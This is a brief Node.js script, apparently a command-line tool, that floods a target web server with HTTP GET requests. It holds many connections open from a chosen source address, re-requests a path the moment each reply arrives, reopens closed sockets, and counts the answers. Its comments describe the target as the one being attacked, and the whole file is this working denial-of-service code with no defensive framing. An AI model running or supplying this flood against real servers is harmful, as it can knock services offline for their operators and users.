// Keeps connections open and asks for a path on each as soon as it was answered; tells how many answers came.
// It steps back for whoever is attacked.
// Words: url, path, address to come from, connections.
import { connect } from "node:net";
import { setPriority } from "node:os";

const [url, path, localAddress, connections] = process.argv.slice(2);
const { host, hostname, port } = new URL(url);
const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
let answers = 0;
setPriority(19);

function open() {
  const socket = connect({ port: Number(port), host: hostname, localAddress });
  socket.on("error", () => undefined);
  socket.on("close", () => setTimeout(open, 50));
  socket.on("data", (bytes) => {
    if (!bytes.toString("latin1").includes("HTTP/1.1 ")) return;
    answers += 1;
    socket.write(request);
  });
  socket.write(request);
}

for (let count = 0; count < Number(connections); count++) open();
setInterval(() => process.stdout.write(`${answers}\n`), 100);
